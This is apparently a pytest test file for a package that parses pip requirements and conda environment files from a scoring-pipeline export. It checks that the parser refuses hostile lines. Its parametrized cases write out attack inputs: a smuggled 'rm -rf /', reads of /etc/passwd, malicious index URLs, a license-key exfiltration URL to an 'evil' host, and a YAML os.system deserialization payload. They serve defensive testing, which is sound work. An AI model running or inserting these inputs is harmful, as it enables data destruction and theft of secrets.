"""The lists of an export: pip's whole grammar, YAML, and what attackers write."""

import codecs
import itertools
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from wheels import wheel

from dai_spark import ScoringPipeline
from dai_spark.envbuild.packages.export_requirements import from_export
from dai_spark.envbuild.packages.package_sources import PackageSources
from dai_spark.environments import Choice
from dai_spark.errors import DaiSparkError, EnvironmentBuildError, OptionError

CORE = "h2oaicore-1.10.7.3-cp38-cp38-linux_x86_64.whl"
GIT = "git+https://github.com/h2oai/pandas-ml#egg=pandas-ml"
# As exports of 1.7 and 1.8 are laid out.
OLD_YAML = f"""\
name: scoring_h2oai_experiment_ab_cd
channels:
  - defaults
  - conda-forge
dependencies:
  - python==3.6.5
  - numpy==1.16.4
  - numpy==1.16.4
  - tornado==5.1.1
  - pip:
      - {GIT}
      - {GIT}
      - {CORE}
      - scoring_h2oai_experiment_ab_cd-1.0.0-py3-none-any.whl
"""


@pytest.fixture
def read(folder_export, tmp_path):
    """A function that reads an export of given lists: its lines by name, and all that is said."""
    count = itertools.count()

    def read(listed, *, choice=None, sources=None, wheels=(), **texts):
        export = folder_export(
            tmp_path / f"export-{next(count)}", *wheels, requirements_txt="", **texts
        )
        content = listed if isinstance(listed, bytes) else listed.encode()
        (export.path / "requirements.txt").write_bytes(content)
        found = from_export(
            ScoringPipeline(export.path), choice or Choice(), sources or PackageSources()
        )
        lines = {line for line in found.lines if line != "importlib-resources"}
        return lines, "\n".join(found.table()), found

    return read


def test_a_version_control_system_is_not_an_index(read):
    """As real lists have it: refused with the line; never a package `git`, nor one of its name."""
    listed = f"numpy==1.16.4\n{GIT}\npandas==0.24.2\n{GIT}\n{CORE}\n"
    with pytest.raises(EnvironmentBuildError) as told:
        read(listed, environment_yml=OLD_YAML)
    message = told.value.message
    assert "line 2 of requirements.txt asks for pandas-ml from git+https://github.com/" in message
    for way in ("--find-links FOLDER", "--add pandas-ml==VERSION", "--exclude pandas-ml"):
        assert way in message
    lines, said, found = read(
        listed, environment_yml=OLD_YAML, choice=Choice(exclude=("pandas_ml",))
    )
    assert lines == {"numpy==1.16.4", "pandas==0.24.2"}
    assert not any("git" in line for line in (*found.lines, *found.overrides))
    assert "left out, as you say" in said
    lines, said, found = read(
        listed, environment_yml=OLD_YAML, choice=Choice(add=("pandas-ml==0.6.1",))
    )
    assert "pandas-ml==0.6.1" in lines
    assert "pandas-ml==0.6.1 instead of pandas-ml @ git+https" in said
    # In environment.yml alone, where it was read as the package `git`.
    with pytest.raises(
        EnvironmentBuildError, match=r"line 11 of environment\.yml asks for pandas-m"
    ):
        read("numpy==1.16.4\n", environment_yml=OLD_YAML)


@pytest.mark.parametrize(
    "line",
    [
        GIT,
        f"-e {GIT}",
        "--editable git+ssh://git@github.com/h2oai/pandas-ml@main#egg=pandas_ml&subdirectory=x",
        "pandas_ml @ git+https://me:word@github.com/h2oai/pandas-ml",
        "hg+https://host/pandas-ml#egg=Pandas.ML",
        "pandas-ml[all] @ file:///opt/pandas_ml-0.6.tar.gz",
        "file:///opt/pandas-ml#egg=pandas-ml",
        "pandas-ml @ ftp://host/pandas-ml-0.6.zip",
    ],
)
def test_every_address_that_is_not_fetched(read, tmp_path, line):
    """One is refused as the other, without its password; a wheel at hand is taken in its place."""
    with pytest.raises(EnvironmentBuildError, match="asks for pandas-ml from .* not fetched") as e:
        read(f"numpy==1.22.0\n{line}\n")
    assert "word" not in e.value.message
    folder = tmp_path / "wheels"
    folder.mkdir()
    for version in ("0.10", "0.6"):
        path = wheel(folder, "pandas_ml", {"pandas_ml.py": ""}, version=version)
    wheel(folder, "pandas_ml", {}, version="1.0", tag="cp36-cp36m-linux_x86_64")
    ours = PackageSources.of([str(folder)])
    lines, said, found = read(f"{line}\n", sources=ours, full_constraints_txt="pandas-ml==0.5\n")
    taken = f"pandas-ml @ {path.with_name('pandas_ml-0.10-py3-none-any.whl').as_uri()}"
    assert lines == {taken}
    # An override of the same name would win over the file, and lead to the index.
    assert [one for one in found.overrides if one.startswith("pandas")] == [taken]
    assert f"pandas_ml-0.10-py3-none-any.whl of {folder} is taken, not" in said
    assert "word" not in said
    lines, said, found = read(f"{line}\n", wheels=("pandas_ml-0.6-py3-none-any.whl",))
    assert lines == set()
    assert "pandas_ml-0.6-py3-none-any.whl" in found.wheels
    assert re.search("the export's own wheel is taken, not pandas[-_.]ml", said, re.IGNORECASE)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("git+https://github.com/h2oai/pandas-ml", "names no package"),
        ("-e ../../x", "by its path"),
        ("-e .", "by its path"),
        ("./folder", "by its path"),
        ("https://host/x.tar.gz", "names no package"),
        ("numpy = 1", "is no requirement"),
        ('"numpy==1"', "is no requirement"),
        ("numpy==1 ; rm -rf /", "is no requirement"),
        ("numpy==1 --index-url=http://evil", "is no requirement"),
        ('numpy==1 --global-option="build"', "is no requirement"),
        ("--zzz", "is no requirement"),
        ("-r ../../../etc/passwd", "holds no such file"),
        ("-r /etc/passwd", "holds no such file"),
        ("-r https://evil/more.txt", "holds no such file"),
        ("-c absent.txt", "holds no such file"),
        ("../../etc/evil-1.0-py3-none-any.whl", "which the export does not hold"),
        ("evil%2F..%2F..%2Fx-1.0-py3-none-any.whl", "which the export does not hold"),
        ("x.whl", "is not named as a wheel is"),
        ("ours @ https://evil/${DRIVERLESS_AI_LICENSE_KEY}/ours-1.0.zip", "are not sent"),
        ("ours @ https://evil/$%7BHOME%7D/ours-1.0.zip", "are not sent"),
    ],
)  # fmt: skip
def test_a_line_that_is_not_followed_is_refused(read, line, words):
    """With its number, its file, and the line; no control codes, no second line."""
    with pytest.raises(EnvironmentBuildError, match=words) as told:
        read(f"six==1.16.0\n{line}\n")
    assert "\n" not in told.value.message


def test_options_decide_nothing(read):
    """Where packages come from is not an export's to say; each such line is in what is said."""
    lines, said, found = read(
        "--index-url=http://evil/simple\n--extra-index-url https://me:word@evil/simple\n"
        "-f http://evil/links\n--no-index\n--pre\n--trusted-host evil\n--no-binary :all:\n"
        "six==1.16.0\n"
    )
    assert lines == {"six==1.16.0"}
    for option in ("--index-url", "--extra-index-url", "--find-links", "--no-index", "--pre",
                   "--trusted-host", "--no-binary"):  # fmt: skip
        assert f"{option}" in said
    assert "--extra-index-url https://evil/simple (line 2 of requirements.txt) is not fo" in said
    assert "word" not in said
    assert not any("evil" in line for line in (*found.lines, *found.overrides))


def test_what_pip_reads_is_read(read):
    """Continuations, comments, spaces, extras, markers, three equals signs, addresses of wheels."""
    lines, said, found = read(
        "# a list\nnumpy \\\n  == 1.22.0   # as trained\n"
        "requests[socks] >= 2.0 , < 3\nrequests[security]==2.26.0\n"
        "Foo_Bar === 1.0\n"
        "dataclasses==0.7 ; python_version < '3.7'\nzipp==3.4 ; python_version < '3.9'\n"
        "https://host/ours-1.0-py3-none-any.whl?sig=secret#sha256=ab\n"
        "old==1.0.special-3\n"
    )
    assert lines == {
        "Foo_Bar===1.0", "numpy==1.22.0", "requests[security,socks]==2.26.0", "zipp==3.4",
        "ours @ https://host/ours-1.0-py3-none-any.whl?sig=secret#sha256=ab", "old===1.0.special-3",
    }  # fmt: skip
    assert {"Foo_Bar===1.0", "numpy==1.22.0", "zipp==3.4"} <= set(found.overrides)
    assert "dataclasses==0.7" in said
    assert "is not for Python 3.8 here" in said
    assert "fetched from https://host/ours-1.0-py3-none-any.whl?..." in said
    assert "secret" not in said


@pytest.mark.parametrize(
    "encode",
    [
        lambda text: codecs.BOM_UTF8 + text.encode(),
        lambda text: text.replace("\n", "\r\n").encode(),
        lambda text: codecs.BOM_UTF16_LE + text.encode("utf-16-le"),
        lambda text: codecs.BOM_UTF16_BE + text.encode("utf-16-be"),
        lambda text: codecs.BOM_UTF32_LE + text.encode("utf-32-le"),
        lambda text: b"# -*- coding: latin-1 -*-\n# caf\xe9\n" + text.encode(),
    ],
    ids=["utf-8-sig", "crlf", "utf-16-le", "utf-16-be", "utf-32", "latin-1 comment"],
)
def test_however_the_file_is_written(read, encode):
    """Editors of Windows leave marks, other line ends and other encodings."""
    lines, _, found = read(encode(f"numpy==1.22.0\npandas==1.2.5\n{CORE}\n"))
    assert lines == {"numpy==1.22.0", "pandas==1.2.5"}
    assert CORE in found.wheels


def test_lists_that_include_others(read, tmp_path):
    """`-r` and `-c` are followed within the export, once each, wherever they stand."""
    lines, said, found = read(
        "-r more.txt\n-c pins.txt\nsix==1.16.0\n",
        more_txt="-r requirements.txt\nidna>=2\n",
        pins_txt="--no-index\nidna==2.10\nurllib3==1.26.20\n",
        environment_yml="dependencies:\n  - pip:\n    - -r requirements.txt\n    - toml==0.10.0\n",
    )
    assert lines == {"six==1.16.0", "idna==2.10", "toml==0.10.0"}
    assert "urllib3==1.26.20" in found.overrides
    assert "the export lists idna>=2; taken is idna==2.10, as its constraints say" in said


def test_an_exact_pin_beats_a_range(read):
    """Wherever it stands; what is not taken is said."""
    lines, said, _ = read("numpy==1.22.0\nnumpy>=1.16\nscipy>=1\nsix\nsix==1.16.0\n",
                          environment_yml="dependencies:\n  - scipy==1.7.0\n")  # fmt: skip
    assert lines == {"numpy==1.22.0", "scipy==1.7.0", "six==1.16.0"}
    assert "the export lists numpy==1.22.0 and numpy>=1.16; taken is numpy==1.22.0, the ex" in said
    assert "scipy==1.7.0 of environment.yml, the exact pin, not scipy>=1" in said


def test_conda_packages(read):
    """All forms of conda's grammar; what is conda's alone is a row of the table, not an install."""
    lines, said, _ = read(
        "numpy==1.22.0\n",
        environment_yml=(
            "dependencies:\n  - python=3.8\n  - conda-forge::psutil=5.8.0\n"
            "  - 'tabulate = 0.8=py_0'\n  - \"cgroupspy 0.1.6\"\n  - openblas=0.3.3=h1_2\n"
            "  - libgomp\n  - numpy[version='>=1.16']\n  - NumPy==1.21.0\n  - evil|x=1\n"
            "  - pip:\n"
        ),
    )
    assert lines == {"numpy==1.22.0", "psutil==5.8.0", "tabulate==0.8", "cgroupspy==0.1.6"}
    for row in ("openblas=0.3.3=h1_2 (line 6 of environment.yml) is a package of conda alone",
                "libgomp (line 7", "numpy==1.22.0 of requirements.txt, not NumPy==1.21.0",
                "numpy[version='>=1.16'] (line 8", "python=3.8", "evil|x=1"):  # fmt: skip
        assert row in said
    assert read("six\n", environment_yml="dependencies:\n  - psutil=5\n")[0] == {
        "psutil==5.*",
        "six",
    }


@pytest.mark.parametrize(
    "text",
    [
        "", "---\n", "name: x\n", "dependencies:\n", "dependencies: []\n", "dependencies: null\n",
        "dependencies:\n  - pip: null\n",
    ],
)  # fmt: skip
def test_environment_files_with_nothing_in_them(read, text):
    """They add nothing, and are no fault."""
    assert read("six==1.16.0\n", environment_yml=text)[0] == {"six==1.16.0"}


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("dependencies: {psutil: 5.8}\n", r"a list is wanted here \(line 1\)"),
        ("dependencies: psutil\n", "a list is wanted here"),
        ("- psutil\n", "names with values are wanted here"),
        ("dependencies:\n  - pip: toml\n", r"a list is wanted here \(line 2\)"),
        ("dependencies:\n  - npm: [left-pad]\n", "npm installs nothing here"),
        ("dependencies: [six]\ndependencies: [toml]\n", "dependencies stands twice"),
        ("dependencies:\n\t- six\n", r"line 2"),
        ("dependencies: [six\n", "correct it in a copy"),
        ("a: 1\n---\nb: 2\n", "correct it in a copy"),
        ("dependencies: &a [*a]\n", "names with values are wanted here"),
        ('dependencies: ["\\e[31mred"]\n', r"x1b.*is no package"),
        ("dependencies: " + "[" * 20000, "nested too deeply"),
        ("dependencies:\n  - pip:\n    - |\n      six\n      -e ../x\n", "by its path"),
        ("dependencies:\n  - pip:\n    - !!python/object/apply:os.system [id]\n", "a text is want"),
    ],
)  # fmt: skip
def test_environment_files_of_another_shape(read, text, words):
    """One sentence with the line; nothing in them is run."""
    with pytest.raises(EnvironmentBuildError, match=words) as told:
        read("six==1.16.0\n", environment_yml=text)
    assert "environment.yml" in told.value.message
    assert "\n" not in told.value.message
    assert "\x1b" not in told.value.message


def test_a_digest_is_kept(read, tmp_path):
    """It goes to the installer with its line; that of a wheel in the export is compared here."""
    one, other = (f"--hash=sha256:{digit * 64}" for digit in "ab")
    _, _, found = read(f"six==1.16.0 \\\n  {one} \\\n  {other}\nidna==2.10\n")
    assert f"six==1.16.0 {one} {other}" in found.hashed_lines()
    assert "idna==2.10" in found.hashed_lines()
    empty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    assert CORE in read(f"{CORE} --hash=sha256:{empty}\n")[2].wheels
    with pytest.raises(EnvironmentBuildError, match="has other bytes than the --hash in line 1"):
        read(f"{CORE} {one}\n")
    with pytest.raises(EnvironmentBuildError, match="of the kind crc32, which no Python computes"):
        read("datatable-0.8.0.dai-1.73-cp38-cp38-linux_x86_64.whl --hash=crc32:1\n",
             wheels=["datatable-0.8.0.dai-1.73-cp38-cp38-linux_x86_64.whl"])  # fmt: skip


@pytest.mark.parametrize(
    ("named", "held"),
    [
        ("torch-1.13.1%2Bcpu-cp38-cp38-linux_x86_64.whl",
         "torch-1.13.1+cpu-cp38-cp38-linux_x86_64.whl"),
        ("torch-1.13.1+cpu-cp38-cp38-linux_x86_64.whl",
         "torch-1.13.1%2Bcpu-cp38-cp38-linux_x86_64.whl"),
        ("torch-1.13.1-cp38-cp38-linux_x86_64.whl", "torch-1.13.1-2-cp38-cp38-linux_x86_64.whl"),
        ("torch-1.13.1-2-cp38-cp38-linux_x86_64.whl", "torch-1.13.1-2-cp38-cp38-linux_x86_64.whl"),
        ("./torch-1.13.1-py3-none-any.whl", "torch-1.13.1-py3-none-any.whl"),
        ("file:///opt/torch-1.13.1%2Bcpu-py3-none-any.whl", "torch-1.13.1+cpu-py3-none-any.whl"),
        ("Torch-1.13.1-py3-none-any.whl", "torch-1.13.1-py3-none-any.whl"),
        ("torch-1.dai.3-1.73-cp38-cp38-linux_x86_64.whl",
         "torch-1.dai.3-1.73-cp38-cp38-linux_x86_64.whl"),
    ],
)  # fmt: skip
def test_a_wheel_is_found_by_what_its_name_means(read, named, held):
    """Percent-encoded or not, with a build tag, with a path, of an old version."""
    lines, said, found = read(f"{named}\ntorch==1.13.0\n", wheels=[held])
    assert held in found.wheels
    assert lines == set()
    assert "the export's own wheel is taken, not torch==1.13.0" in said
    assert f"{held} of the export, though" not in said


def test_a_wheel_whose_decoded_name_is_a_path(read):
    """It would be extracted elsewhere; refused before anything is."""
    with pytest.raises(EnvironmentBuildError, match="is not named as a wheel is"):
        read("six==1.16.0\n", wheels=["evil-1.0-..%2F..%2Fpy3-none-any.whl"])


def test_an_absent_wheel_that_nobody_needs(read):
    """Users take h2o4gpu out of an export, half a gigabyte, and leave it in the list."""
    listed = "six==1.16.0\nh2o4gpu-0.3.2-cp38-cp38-linux_x86_64.whl\n"
    lines, said, _ = read(listed)
    assert lines == {"six==1.16.0"}
    assert "left out, since it runs on NVIDIA's GPUs" in said
    with pytest.raises(EnvironmentBuildError, match=r"which the export does not hold.*--exclude"):
        read(listed, choice=Choice(keep=("h2o4gpu",)))


def test_constraints_of_ones_own(read, tmp_path):
    """In pip's grammar, too: an index from `pip-compile` is said, another list is refused."""
    pins = tmp_path / "pins.txt"
    pins.write_bytes(codecs.BOM_UTF8 + b"-i https://host/simple\nsix == 1.15.0 \\\n    # via x\n")
    lines, said, _ = read("six==1.16.0\n", choice=Choice(constraints=(str(pins),)))
    assert lines == {"six==1.15.0"}
    assert "--index-url https://host/simple (line 1 of" in said
    pins.write_text("-r more.txt\n")
    with pytest.raises(EnvironmentBuildError, match="which is no pin"):
        read("six==1.16.0\n", choice=Choice(constraints=(str(pins),)))


WORDS = [
    "six",
    "numpy",
    "==",
    ">=",
    "1.0",
    " ",
    "\n",
    "\\\n",
    "#",
    "-e ",
    "-r ",
    "-c ",
    "@",
    ";",
    "--hash=sha256:ab",
    "--index-url ",
    "git+https://h/r#egg=n",
    "file:///x",
    "../",
    "x.whl",
    "six-1-py3-none-any.whl",
    "python_version<'3.9'",
    "[a]",
    "%2F",
    "${HOME}",
    "'",
    '"',
    "\x00",
    "\u2028",
    "é",
    "https://h/",
    ": ",
    "- ",
    "dependencies:\n",
    "pip:\n",
    "&a ",
    "*a",
    "{",
    "[",
]


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(st.lists(st.sampled_from(WORDS), max_size=12), st.lists(st.sampled_from(WORDS), max_size=12))
def test_whatever_stands_there_is_read_or_refused(read, listed, conda):
    """No traceback, nothing that an installer could read as an option or as a path of ours."""
    try:
        _, _, found = read("".join(listed), environment_yml="".join(conda))
    except DaiSparkError as error:
        assert not isinstance(error, OptionError)
        return
    for line in (*found.hashed_lines(), *found.overrides):
        assert not line.startswith("-")
        assert "\n" not in line
        assert "\r" not in line
        assert "${" not in line
        assert "file:" not in line
        assert "git+" not in line
